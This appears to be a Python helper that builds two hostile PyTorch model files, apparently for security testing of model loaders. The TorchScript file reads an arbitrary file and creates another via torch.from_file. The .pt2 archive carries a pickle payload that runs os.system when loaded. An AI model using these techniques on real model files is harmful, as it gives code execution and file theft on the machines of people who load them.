"""Makes two hostile model files. Needs PyTorch, so only programs of their own import it.

TorchScript: `torch.from_file` reads, and with `shared` makes, any file; no pickle is involved.
.pt2: `torch.export.load` unpickles the example inputs without weights_only where reading them with it has failed.
"""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from pathlib import Path

import torch


class Thief(torch.nn.Module):
    def __init__(self, secret: str, marker: str, count: int) -> None:
        super().__init__()
        self.secret = secret
        self.marker = marker
        self.count = count

    def forward(self, x):
        read = torch.from_file(self.secret, False, self.count, dtype=torch.uint8)
        return read, torch.from_file(self.marker, True, 4)  # one that is not returned would be optimised away


class Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple:
        return os.system, (f"touch {self.marker}",)


def torchscript(path: Path, secret: str, marker: str, count: int) -> None:
    torch.jit.script(Thief(secret, marker, count)).save(str(path))


def pt2(path: Path, marker: str) -> None:
    good = io.BytesIO()
    torch.export.save(torch.export.export(torch.nn.Linear(3, 3), (torch.randn(2, 3),)), good)
    with zipfile.ZipFile(good) as old, zipfile.ZipFile(path, "w") as new:
        [inputs] = [name for name in old.namelist() if "sample_inputs" in name and "config" not in name]
        for name in old.namelist():
            new.writestr(name, pickle.dumps(Payload(marker)) if name == inputs else old.read(name))
